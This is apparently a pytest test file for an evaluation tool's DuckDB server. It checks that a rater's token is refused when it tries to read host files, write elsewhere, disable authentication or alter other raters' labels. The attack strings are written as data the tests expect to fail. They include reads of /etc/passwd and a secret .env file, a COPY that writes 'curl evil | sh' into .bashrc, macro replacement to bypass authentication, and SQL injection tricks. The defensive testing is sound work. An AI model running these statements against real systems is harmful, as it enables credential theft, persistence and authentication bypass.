"""What a team token allows: attacks made with DuckDB's own Quack client against `evaltui serve`.

A token holder is a rater, not the server's owner. Each attack below was made
by hand against an earlier `evaltui serve`; here each is made again and must
now do no harm. The checks themselves (`evaltui.store.guard`) are also tested
directly, on a plain DuckDB, against the statements evaltui's client sends.
"""

from __future__ import annotations

import datetime as dt
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import duckdb
import pytest

from evaltui import team
from evaltui.store import Store, guard
from evaltui.store.literals import inline
from evaltui.store.server import load_extensions, token_sha256
from tests.conftest import Result, write_jsonl, write_rubric
from tests.served import Served, evaltui_command

CLI = Callable[..., Result]


@pytest.fixture(autouse=True)
def no_token_in_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("EVALTUI_TOKEN", raising=False)


def make_project(cli: CLI, db: Path, tmp_path: Path, n: int = 4) -> None:
    records: list[dict[str, object]] = [
        {"id": f"c{i}", "input": f"q{i}", "output": f"a{i}"} for i in range(n)
    ]
    assert cli("import", write_jsonl(tmp_path / "cases.jsonl", records), "--db", db).code == 0
    assert cli("rubric", "import", write_rubric(tmp_path / "ok.toml"), "--db", db).code == 0


class Attacker:
    """DuckDB's own Quack client, attached with a rater's token: no evaltui code in the way."""

    def __init__(self, address: str, token: str) -> None:
        self.con = duckdb.connect(":memory:")
        load_extensions(self.con)  # the same extension files, so no download
        self.con.execute(f"ATTACH '{address}' AS s (TOKEN '{token}', DISABLE_SSL true)")

    def run(self, sql: str) -> list[tuple[object, ...]]:
        """Rows of `sql` run whole on the server, as `SELECT * FROM s.query(...)`."""
        return self.con.execute("SELECT * FROM s.query(?)", [sql]).fetchall()

    def refused(self, sql: str) -> str:
        """Run `sql`; it must fail. Returns DuckDB's message."""
        with pytest.raises(duckdb.Error) as caught:
            self.run(sql)
        return str(caught.value)

    def close(self) -> None:
        self.con.close()


@pytest.fixture
def served(cli: CLI, db: Path, tmp_path: Path) -> Iterator[Served]:
    make_project(cli, db, tmp_path)
    with Served(db, raters=["alice", "bob"]) as server:
        yield server


@pytest.fixture
def alice(served: Served) -> Iterator[Attacker]:
    attacker = Attacker(served.address, served.tokens["alice"])
    yield attacker
    attacker.close()


# 1. No file or network outside the project -------------------------------------------------


def test_a_token_reads_and_writes_no_file_of_the_serving_user(
    alice: Attacker, tmp_path: Path
) -> None:
    secret = tmp_path / "home" / ".env"
    secret.parent.mkdir()
    secret.write_text("OPENAI_API_KEY=sk-not-for-raters\n")
    other = tmp_path / "other.duckdb"
    duckdb.connect(str(other)).close()
    bashrc = tmp_path / "home" / ".bashrc"

    for attack in (
        "SELECT * FROM read_csv('/etc/passwd')",
        f"SELECT * FROM read_csv('{secret}')",
        f"SELECT * FROM read_text('{secret}')",
        f"SELECT * FROM '{secret}'",
        f"SELECT * FROM glob('{secret.parent}/*')",
        f"COPY (SELECT 'curl evil | sh') TO '{bashrc}'",
        f"ATTACH '{other}' AS o",
        "SELECT * FROM quack_serve('quack:0.0.0.0:9599', allow_other_hostname := true)",
        "CALL quack_serve('quack:localhost:9598')",
        "INSTALL sqlite",
        "LOAD sqlite",
        "SET enable_external_access = true",
        "SET GLOBAL quack_authorization_function = 'quack_nop_authorization'",
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM quack_active_connections()",
        "CALL enable_logging('QueryLog')",
    ):
        alice.refused(attack)
    assert not bashrc.exists()
    assert alice.run("SELECT count(*) FROM cases") == [(4,)]
    # What a client's own server-side connection runs with.
    settings = (
        "enable_external_access", "lock_configuration",
        "autoinstall_known_extensions", "autoload_known_extensions",
    )  # fmt: skip
    shown = ", ".join(f"current_setting('{name}')" for name in settings)
    assert alice.run(f"SELECT {shown}") == [(False, True, False, False)]


def test_the_checks_cannot_be_replaced_or_removed(alice: Attacker) -> None:
    for attack in (
        "CREATE OR REPLACE MACRO evaltui_token_ok(a, b, c) AS (true)",
        f"CREATE OR REPLACE MACRO {guard.AUTHORIZE}(a, b) AS (true)",
        f"CREATE OR REPLACE MACRO {guard.AUTHENTICATE}(a, b, c) AS (true)",
        f"DETACH {guard.CATALOG}",
        "USE evaltui_guard",
        "DROP TABLE labels",
        "CREATE TABLE x (a INTEGER)",
        "ALTER TABLE labels ADD COLUMN x INTEGER",
        "SELECT 1; DROP TABLE labels",
        "SELECT 1 -- '\n; DROP TABLE labels; --'",
        "SELECT E'\\'' ; DROP TABLE labels; --'",
        'SELECT * FROM "team_tokens"',
        "SELECT * FROM team_tokens",
        "SELECT $$x$$; DROP TABLE labels",
        "PRAGMA database_list",
        "CHECKPOINT",
    ):
        alice.refused(attack)
    assert alice.run("SELECT count(*) FROM labels") == [(0,)]


# 2. Authentication stays on; tokens and labels are out of reach ------------------------------


def test_no_token_can_switch_authentication_off_or_mint_one(
    served: Served, alice: Attacker, db: Path
) -> None:
    fake = "evt_minted-by-alice"
    for attack in (
        "CREATE OR REPLACE MACRO evaltui_token_ok(s, t, d) AS (true)",
        f"INSERT INTO team_tokens VALUES ('{token_sha256(fake)}', 'bob', now())",
        "DELETE FROM team_tokens WHERE rater = 'bob'",
        "UPDATE team_tokens SET rater = 'alice'",
        "INSERT INTO cases SELECT * FROM team_tokens",
    ):
        alice.refused(attack)
    with pytest.raises(duckdb.Error, match="Authentication failed"):
        Attacker(served.address, fake)
    with pytest.raises(duckdb.Error, match="Authentication failed"):
        Attacker(served.address, "anything")
    Attacker(served.address, served.tokens["bob"]).close()  # bob's token still works

    served.stop()  # and after a restart of serve
    with Served(db, raters=[]) as again:
        with pytest.raises(duckdb.Error, match="Authentication failed"):
            Attacker(again.address, fake)
        Attacker(again.address, served.tokens["bob"]).close()


def test_labels_are_append_only_and_each_rater_writes_only_their_own(
    served: Served, alice: Attacker, cli: CLI, tmp_path: Path
) -> None:
    with Store.open(served.address, token=served.tokens["bob"]) as bob:
        bob.add_label("c0", bob.get_rubric("ok"), "bob", "fail")
    for attack in (
        "UPDATE labels SET value = 'pass' WHERE rater = 'bob'",
        "DELETE FROM labels WHERE rater = 'bob'",
        "INSERT INTO labels VALUES ('x', 99, 'c0', 'ok', 1, 'bob', 'pass', '', [], NULL, 1, "
        "now(), NULL)",
        "INSERT OR REPLACE INTO labels SELECT * FROM labels",
        "INSERT INTO deferrals VALUES (99, 'c0', 'ok', 'bob', true, now())",
    ):
        alice.refused(attack)
    # The one shape that appends labels, with alice's token and bob's name: stopped on the server.
    now = dt.datetime(2026, 1, 1)
    sql, params = guard.own_statement(
        guard.LABELS_INSERT,
        [["x1"], ["c1"], ["ok"], [1], ["bob"], ["pass"], [""], [[]], [None], [1.0], [now], [None]],
        "rater",
        served.tokens["alice"],
    )
    assert "token's rater" in alice.refused(inline(sql, params))
    # ... and the same with her own name goes in.
    sql, params = guard.own_statement(
        guard.LABELS_INSERT,
        [
            ["x2"],
            ["c1"],
            ["ok"],
            [1],
            ["alice"],
            ["pass"],
            [""],
            [[]],
            [None],
            [1.0],
            [now],
            [None],
        ],
        "rater",
        served.tokens["alice"],
    )
    alice.run(inline(sql, params))

    # 3. evaltui's own client refuses a write in another rater's name before sending it.
    labels = write_jsonl(tmp_path / "bob.jsonl", [{"case_id": "c2", "label": "pass"}])
    result = cli(
        "labels", "import", labels, "--db", served.address, "--token", served.tokens["alice"],
        "--rater", "bob", "--rubric", "ok",
    )  # fmt: skip
    assert result.code == 1 and "this token belongs to alice" in result.err, result.err
    with Store.open(served.address, token=served.tokens["bob"]) as bob:
        rows = sorted((lb.case_id, lb.rater, lb.value) for lb in bob.current_labels("ok"))
    assert rows == [("c0", "bob", "fail"), ("c1", "alice", "pass")]


def test_a_token_still_reads_the_whole_project_and_its_own_rater(
    served: Served, alice: Attacker
) -> None:
    assert alice.run("SELECT count(*) FROM cases") == [(4,)]
    lookup = inline(guard.TOKEN_RATER_LOOKUP, [token_sha256(served.tokens["alice"])])
    assert alice.run(lookup) == [("alice",)]


def test_a_judge_another_rater_stored_is_not_sent_the_key_until_you_choose_its_endpoint(
    cli: CLI, db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.loopback import LoopbackServer

    make_project(cli, db, tmp_path)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-evaltui-FAKE-guard-key-0042")
    with LoopbackServer() as elsewhere, Served(db, raters=["alice", "bob"]) as served:
        alice = ["--db", served.address, "--token", served.tokens["alice"]]
        bob = ["--db", served.address, "--token", served.tokens["bob"]]
        set_judge = ["judge", "set", "--rubric", "ok", "--model", "openai/m"]
        assert cli(*alice, *set_judge, "--api-base", elsewhere.api_base).code == 0
        run = ["judge", "run", "--rubric", "ok", "--cases", "all"]
        refused = cli(*bob, *run)
        assert refused.code == 1 and "on a served project any rater can set that" in refused.err
        assert f"--api-base {elsewhere.api_base}" in refused.err
        assert elsewhere.calls == 0  # bob's key went nowhere
        assert cli(*bob, *run, "--api-base", elsewhere.api_base).code == 0
        assert elsewhere.calls == 4


# 4. One server per port -------------------------------------------------------------------


def test_a_second_serve_on_a_served_port_is_refused_and_the_first_team_keeps_working(
    served: Served, cli: CLI, tmp_path: Path
) -> None:
    other = tmp_path / "second.duckdb"
    make_project(cli, other, tmp_path)
    port = served.address.rsplit(":", 1)[1]
    second = subprocess.run(
        [*evaltui_command(), "serve", str(other), "--port", port, "--rater", "carol"],
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert second.returncode == 1, second
    assert served.process is not None
    line = second.stderr.strip()
    assert line.startswith(f"evaltui: port {port} is already in use by PID {served.process.pid} ")
    assert "Traceback" not in second.stderr and second.stdout == ""
    for _ in range(20):  # every connection reaches the first server
        with Store.open(served.address, token=served.tokens["alice"]) as store:
            assert store.rater == "alice"


# 20. Tokens never look like a flag -----------------------------------------------------


def test_tokens_never_start_with_a_dash(store: Store) -> None:
    # Unprefixed, 43 in 3,000 started with "-" and were then read as a flag.
    assert not any(team.new_token().startswith("-") for _ in range(3000))
    tokens = team.issue_tokens(store, ["alice", "bob"])
    assert all(t.startswith(team.TOKEN_PREFIX) for t in tokens.values())


# The checks on their own ------------------------------------------------------------------


@pytest.fixture(scope="module")
def checks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    """A plain DuckDB holding the serve's checks, to call them directly."""
    con = duckdb.connect(str(tmp_path_factory.mktemp("guard") / "p.duckdb"))
    con.execute(
        "CREATE TABLE team_tokens (token_sha256 VARCHAR, rater VARCHAR, created_at TIMESTAMP)"
    )
    con.execute(f"ATTACH ':memory:' AS {guard.CATALOG}")
    functions = con.execute(
        "SELECT DISTINCT function_name FROM duckdb_functions() "
        "WHERE function_type IN ('table', 'table_macro', 'pragma')"
    ).fetchall()
    for statement in guard.macros("p", [r[0] for r in functions]):
        con.execute(statement)
    yield con
    con.close()


def admitted(con: duckdb.DuckDBPyConnection, sql: str) -> bool:
    row = con.execute(f"SELECT {guard.AUTHORIZE}('session', ?)", [sql]).fetchone()
    return bool(row and row[0])


TS = dt.datetime(2026, 11, 30, 12, 0, 0)
OWN = [
    guard.own_statement(
        guard.LABELS_INSERT,
        [["a", "b"], ["c0", "c1"], ["ok", "ok"], [1, 1], ["al", "al"], ["pass", None],
         ["it's; -- a note", ""], [["t"], []], [None, True], [1.5, None], [TS, TS], [None, "f"]],
        "rater", "evt_x"),
    guard.own_statement(guard.DEFERRAL_INSERT, ["c0", "ok", "al", True, TS], "rater", "evt_x"),
    guard.own_statement(
        guard.ADJUDICATION_INSERT,
        ["id", "c0", "ok", "pass", "rubric gap", "why\0not", "al", TS], "adjudicator", "evt_x"),
]  # fmt: skip


@pytest.mark.parametrize("sql, params", OWN)
def test_the_rater_naming_appends_are_admitted_and_cannot_be_widened(
    checks: duckdb.DuckDBPyConnection, sql: str, params: list[object]
) -> None:
    text = inline(sql, params)
    assert admitted(checks, text)
    assert not admitted(checks, text.replace("THEN true", "OR true THEN true"))
    assert not admitted(checks, text + " UNION ALL SELECT * FROM labels")
    assert not admitted(checks, text.replace("WHERE CASE", "WHERE true OR CASE"))


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 42",
        "SELECT count(*) FROM labels WHERE rubric = 'a''b;--'",
        "SELECT * FROM cases WHERE id IN (SELECT unnest(['a', 'b']))",
        "WITH x AS (SELECT 1 AS a) SELECT a FROM x",
        "SELECT case_id FROM adjudications QUALIFY row_number() OVER (PARTITION BY case_id) = 1",
        "INSERT INTO cases (id, kind) SELECT * FROM (VALUES ('a', 'single')) AS new(id, kind)",
        "INSERT OR IGNORE INTO raters VALUES ('a', 'human', CAST('2026-01-01' AS TIMESTAMP))",
        "INSERT INTO failure_modes (id, rubric) VALUES (nextval('failure_mode_seq'), 'r') "
        "RETURNING id",
        "UPDATE rubrics SET status = 'approved' WHERE name = 'x' AND version = CAST('2' AS INTEGER)",
        "UPDATE failure_modes SET merged_into = CAST('3' AS BIGINT) WHERE id = CAST('4' AS BIGINT)",
        "BEGIN TRANSACTION",
        "COMMIT",
        "ROLLBACK",
        # What DuckDB's Quack client asks for when it attaches.
        "\nSELECT catalog_name, schema_name\nFROM information_schema.schemata\n"
        "WHERE catalog_name NOT IN ('system', 'temp')\nORDER BY ALL\n\t",
        "\nSELECT schema_name, sql, 'table'\nFROM duckdb_tables()\nUNION ALL\n"
        "SELECT schema_name, view_name, 'view'\nFROM duckdb_views()\n\t",
    ],
)
def test_what_evaltuis_client_sends_is_admitted(
    checks: duckdb.DuckDBPyConnection, sql: str
) -> None:
    assert admitted(checks, sql)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT read_csv\v('/etc/passwd')",  # a vertical tab is DuckDB whitespace
        "SELECT * FROM system.main.read_csv('/etc/passwd')",
        "SELECT * FROM query('SELECT 1')",
        "SELECT * FROM query_table('labels')",
        "SELECT 'unterminated",
        "SELECT * FROM x /* ' */ , read_text('/etc/passwd')",
        "WITH x AS (SELECT 1) INSERT INTO cases SELECT * FROM x",
        "INSERT INTO cases VALUES ('a') ON CONFLICT DO UPDATE SET kind = 'x'",
        "INSERT INTO labels_backup VALUES ('a')",
        "UPDATE rubrics SET status = 'approved' WHERE true",
        "UPDATE labels SET value = 'pass'",
        "SELECT write_log('x')",
        "EXPLAIN SELECT 1",
        "SELECT x FROM t WHERE y = U&'\\0027'",
    ],
)
def test_anything_else_is_refused(checks: duckdb.DuckDBPyConnection, sql: str) -> None:
    assert not admitted(checks, sql)


def test_the_python_skeleton_matches_the_servers(checks: duckdb.DuckDBPyConnection) -> None:
    macro = "SELECT trim(regexp_replace(upper(regexp_replace(?, ?, '?', 'g')), ?, ' ', 'g'))"
    for sql, params in OWN:
        text = inline(sql, params)
        row = checks.execute(macro, [text, guard._STRING, guard._SPACE]).fetchone()
        assert row is not None and row[0] == guard.skeleton(text)


def test_a_token_check_left_in_a_file_by_an_older_evaltui_is_dropped(db: Path) -> None:
    from evaltui.store.db import connect, migrate

    con = connect(db)
    migrate(con, db, target=8)  # the last schema that kept the check in the file
    # As an attack left it:
    con.cursor().execute("CREATE OR REPLACE MACRO evaltui_token_ok(s, t, d) AS (true)")
    con.close()
    with Store.open(db) as store:
        found = (
            store.cursor()
            .execute(
                "SELECT count(*) FROM duckdb_functions() WHERE function_name = 'evaltui_token_ok'"
            )
            .fetchone()
        )
    assert found == (0,)
